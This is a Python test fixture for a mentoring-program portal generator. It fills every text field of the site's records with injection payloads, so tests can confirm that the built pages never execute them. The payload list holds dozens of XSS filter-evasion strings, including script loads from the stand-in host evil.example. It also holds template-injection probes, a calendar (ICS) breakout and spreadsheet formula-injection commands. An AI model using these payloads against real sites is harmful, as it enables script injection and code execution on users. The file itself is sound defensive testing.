"""An attacked portal: the minimal fixture with an injection payload in every text field of every record.

The fixture is built from the models themselves (:func:`record`): every field whose type is plain
text (``Text``/``LongText``) gets a payload, nested records are filled the same way, and the few
fields that must hold a valid id, date or path get a fixed valid value. A field added to a model
later is attacked without touching this file.

Each kind of record comes in :data:`COPIES` copies, the payloads shifted by one each time, so every
field of a repeated record sees every payload.
"""

from __future__ import annotations

import copy as copying
import datetime as dt
import types
import typing
from pathlib import Path
from typing import Any

import yaml
from pydantic import AfterValidator, BaseModel
from pydantic.fields import FieldInfo

from conftest import copy_portal
from generator.models import Document, Mentor, Post, Practice, Program, Roadmap

# OWASP filter-evasion style payloads. Every executable one calls alert/prompt or names «nvxss»,
# so the built site can be searched for them in executable places.
PAYLOADS: tuple[str, ...] = (
    "<script>alert('nvxss')</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/nvxss.js></script>",
    "<SCRIPT SRC=http://evil.example/nvxss.js?< B >",
    "<<SCRIPT>alert(5);//<</SCRIPT>",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<img src=x onerror=alert(7)>",
    '<img src="x" onerror="alert(8)"',
    "<IMG SRC=JaVaScRiPt:alert('nvxss')>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(10)">клик</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(11)">клик</a>',
    '<a href="jav&#x09;ascript:alert(12)">клик</a>',
    '<a href=" &#14;  javascript:alert(13)">клик</a>',
    "[клик](javascript:alert(14))",
    "[клик](JaVaScRiPt:alert(15)) и ![фото](javascript:alert(15))",
    "[клик](javascript&#58;alert(16)) <javascript:alert(16)>",
    "[ссылка][x]\n\n[x]: javascript:alert(17)",
    "<svg onload=alert(18)>",
    "<svg><script>alert(19)</script></svg>",
    '<svg><a xlink:href="javascript:alert(20)"><text>x</text></a><animate onbegin=alert(20) /></svg>',
    '<iframe src="javascript:alert(21)"></iframe>',
    '<iframe srcdoc="<script>alert(22)</script>"></iframe>',
    '<iframe src="https://evil.example/nvxss"></iframe>',
    "<body onload=alert(24)>",
    '<div style="background:url(javascript:alert(25))">x</div>',
    '<div style="width: expression(alert(26))">x</div>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNyk8L3NjcmlwdD4="></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(28)>">',
    '<form action="javascript:alert(29)"><button formaction="javascript:alert(29)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(30)">',
    '<base href="javascript:alert(31)//">',
    "</textarea><script>alert(32)</script>",
    '"><script>alert(33)</script>',
    "' onmouseover='alert(34)' x='",
    '" autofocus onfocus="alert(35)',
    "{{ 7*191 }}",
    "{% raw %}{{ config }}{% endraw %}{{ ''.__class__.__mro__ }}",
    "---\ntemplate: redirect.html\nlocation: javascript:alert(38)\n---",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:nvxss\r\nEND:VEVENT\r\n",
    '=HYPERLINK("http://evil.example/?nvxss="&A1;"Нажмите")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<details open ontoggle=alert(44)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(45)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(46)>">',
    '<a href="data:text/html,<script>alert(47)</script>">x</a>',
    '<a href="vbscript:msgbox(48)">x</a>',
    "Текст {: onclick=alert(49) }\n{: #x onmouseover=alert(49) }",
    "<style>@import 'javascript:alert(50)';</style><link rel=stylesheet href=javascript:alert(50)>",
    "<input autofocus onfocus=alert(51)><video><source onerror=alert(51)></video>",
    '<a href="java\nscript:alert(52)">x</a>',
    "\u003cscript\u003ealert(53)\u003c/script\u003e ${7*191} #{7*191}",
)
# What no executable place of the site may contain.
ICS_BREAKOUT = "Совещание\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:nvxss\r\nDTSTART:20250101\r\n"
MARKERS = ("alert(", "nvxss", "msgbox(", "evil.example", "prompt(", "cmd|")
TEMPLATE_RESULT = str(7 * 191)  # «{{ 7*191 }}» must never become this number
COPIES = 6  # records of each repeated kind (mentors, practices, documents, posts, roadmap items)

RSS_PLUGIN = """  - rss:
      match_path: news/posts/.*
      date_from_meta:
        as_creation: date
      use_git: false
"""

# Fields that are text but must refer to something, and non-text fields that need a valid value.
FIXED: dict[tuple[str, str], Any] = {
    ("Mentor", "role"): "teacher",
    ("Mentor", "forms"): ["teacher-teacher"],
    ("Mentor", "photo"): None,
    ("Consent", "publish"): True,
    ("Consent", "date"): dt.date(2025, 9, 1),
    ("Consent", "by"): "self",
    ("Consent", "scope"): ["name", "photo", "bio", "honors", "contacts"],
    ("Contacts", "email"): "mentor@test.example.ru",
    ("Honor", "year"): 2025,
    ("Honor", "level"): "municipal",
    ("Practice", "authors"): ["petrova-ai"],
    ("Practice", "form"): "teacher-teacher",
    ("Practice", "year"): 2025,
    ("Attachment", "file"): "files/polozhenie.txt",
    ("Document", "category"): "local",
    ("Document", "kind"): "order",
    ("Document", "date"): dt.date(2025, 8, 30),
    ("Document", "file"): "files/polozhenie.txt",
    ("Document", "forms"): ["teacher-teacher"],
    ("Document", "year"): 2025,
    ("Document", "consent_form"): True,
    ("Post", "date"): dt.date(2025, 10, 1),
    ("Post", "mentors"): ["petrova-ai", "ivanova-mp"],
    ("Post", "image"): None,
    ("Roadmap", "period"): "2025-2026",
    ("Roadmap", "period_kind"): "academic_year",
    ("Item", "news"): [],
    ("Period", "start"): "2025-10",
    ("Period", "end"): "2025-11",
    ("Item", "status"): "in_progress",
    ("Considered", "date"): dt.date(2025, 8, 29),
    ("Approved", "order_date"): dt.date(2025, 8, 30),
    ("Organization", "type"): "school",
    ("Organization", "email"): "school@test.example.ru",
    ("Organization", "site"): "https://test.example.ru/",
    ("Organization", "vk"): "https://vk.com/test",
    ("Curator", "email"): "curator@test.example.ru",
    ("Program", "current_roadmap"): "dk-ataka",
    ("Program", "coverage"): [{"year": "2025-2026", "pupils": {"total": 100, "involved": 10, "target": 20}}],
    ("Survey", "year"): "2025-2026",
    ("Survey", "respondents"): 10,
    ("Survey", "satisfied"): 5,
    ("Signature", "date"): dt.date(2025, 8, 30),
    ("Application", "email"): "curator@test.example.ru",
}


def _kind(annotation: Any) -> tuple[str, Any]:
    """('text'|'model'|'list'|'other', inner) for a field's annotation."""
    origin = typing.get_origin(annotation)
    if origin is typing.Annotated:
        base, *meta = typing.get_args(annotation)
        if any(isinstance(m, AfterValidator) for m in meta):
            return "other", None
        return _kind(base)
    if origin in (typing.Union, types.UnionType):
        args = [a for a in typing.get_args(annotation) if a is not type(None)]
        return _kind(args[0]) if len(args) == 1 else ("other", None)
    if origin is tuple:
        inner = _kind(typing.get_args(annotation)[0])
        return ("list", inner) if inner[0] in ("text", "model") else ("other", None)
    if annotation is str:
        return "text", None
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return "model", annotation
    return "other", None


class Payloads:
    """Hands out the payloads in turn, starting at ``offset``."""

    def __init__(self, offset: int = 0):
        self.index = offset

    def next(self) -> str:
        value = PAYLOADS[self.index % len(PAYLOADS)]
        self.index += 1
        return value

    def all(self) -> list[str]:
        return list(PAYLOADS)


def record(model: type[BaseModel], payloads: Payloads, depth: int = 0) -> dict[str, Any]:
    """A valid record of ``model`` with a payload in every text field (nested records included)."""
    data: dict[str, Any] = {}
    for name, info in model.model_fields.items():
        key = info.alias or name
        fixed = FIXED.get((model.__name__, name), FIXED.get((model.__name__, key), ...))
        if fixed is not ...:
            if fixed is not None:
                data[key] = copying.deepcopy(fixed)
            continue
        value = _value(info, payloads, depth)
        if value is not None:
            data[key] = value
    return data


def _value(info: FieldInfo, payloads: Payloads, depth: int) -> Any:
    if any(isinstance(m, AfterValidator) for m in info.metadata):
        return None  # an id, colour, path, URL…: not free text
    kind, inner = _kind(info.annotation)
    if kind == "text":
        return payloads.next()
    if kind == "model":
        return record(inner, payloads, depth + 1)
    if kind == "list":
        inner_kind, inner_model = inner
        if inner_kind == "text":
            return payloads.all() if depth == 0 else [payloads.next(), payloads.next()]
        if inner_model.__name__ == "Section" and depth > 1:
            return None  # one level of nested sections is enough
        return [record(inner_model, payloads, depth + 1) for _ in range(2)]
    return None


class _Dumper(yaml.SafeDumper):
    def ignore_aliases(self, data: Any) -> bool:
        return True


def _dump(data: dict[str, Any]) -> str:
    return yaml.dump(data, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10_000)


def build_attacked_portal(dest: Path) -> Path:
    """The minimal fixture with every record kind attacked; returns the portal's root."""
    root = copy_portal("minimal", dest)
    data = root / "data"
    config = (root / "mkdocs.yml").read_text(encoding="utf-8")
    (root / "mkdocs.yml").write_text(
        config.replace("markdown_extensions:", RSS_PLUGIN + "markdown_extensions:"), "utf-8"
    )
    program = record(Program, Payloads(0))
    program["forms"][0]["id"] = "teacher-teacher"
    program["forms"][1]["id"] = "pupil-pupil"
    for curator in program["curators"]:
        curator["consent"]["scope"] = ["name"]
    (data / "program.yaml").write_text(_dump(program), encoding="utf-8")

    roadmap = record(Roadmap, Payloads(3))
    for table in roadmap["extra_tables"]:
        table.pop("column_roles", None)
    roadmap.pop("column_roles", None)
    first = roadmap["sections"][0]["items"][0]
    first.update(title=ICS_BREAKOUT, deadline="Сентябрь 2025 г.", details=[ICS_BREAKOUT])
    (data / "roadmaps/dk-ataka.yaml").write_text(_dump(roadmap), encoding="utf-8")

    for copy in range(COPIES):
        mentor = record(Mentor, Payloads(copy))
        (data / f"mentors/ataka-{copy}.yaml").write_text(_dump(mentor), encoding="utf-8")
        # A pupil's surname must never appear, so the surname is a plain word; the shown parts are attacked.
        pupil = record(Mentor, Payloads(copy + 7)) | {"role": "pupil", "forms": ["pupil-pupil"]}
        pupil["name"] = "Ученикова Ученица Петровна"
        pupil["consent"] = pupil["consent"] | {"by": "parent"}
        (data / f"mentors/ataka-pupil-{copy}.yaml").write_text(_dump(pupil), encoding="utf-8")

        practice = record(Practice, Payloads(copy * 5))
        practice["authors"] = ["petrova-ai", "ivanova-mp", f"ataka-{copy}", f"ataka-pupil-{copy}"]
        if copy % 2:
            body = practice.pop("body")
            (data / f"practices/ataka-{copy}.md").write_text(f"---\n{_dump(practice)}---\n\n{body}\n", encoding="utf-8")
        else:
            (data / f"practices/ataka-{copy}.yaml").write_text(_dump(practice), encoding="utf-8")

        document = record(Document, Payloads(copy * 5 + 2))
        (data / f"library/ataka-{copy}.yaml").write_text(_dump(document), encoding="utf-8")

        post = record(Post, Payloads(copy * 5 + 4))
        post["mentors"] = ["petrova-ai", "ivanova-mp", f"ataka-{copy}"]
        body = "\n\n".join(PAYLOADS[copy::2])
        (root / f"content/news/posts/ataka-{copy}.md").write_text(
            f"---\n{_dump(post)}---\n\n{body}\n", encoding="utf-8"
        )

    parents_meta = {"title": PAYLOADS[0], "description": PAYLOADS[33]}
    parents_body = "\n\n".join(PAYLOADS)
    (root / "content/parents.md").write_text(f"---\n{_dump(parents_meta)}---\n\n{parents_body}\n", encoding="utf-8")
    return root
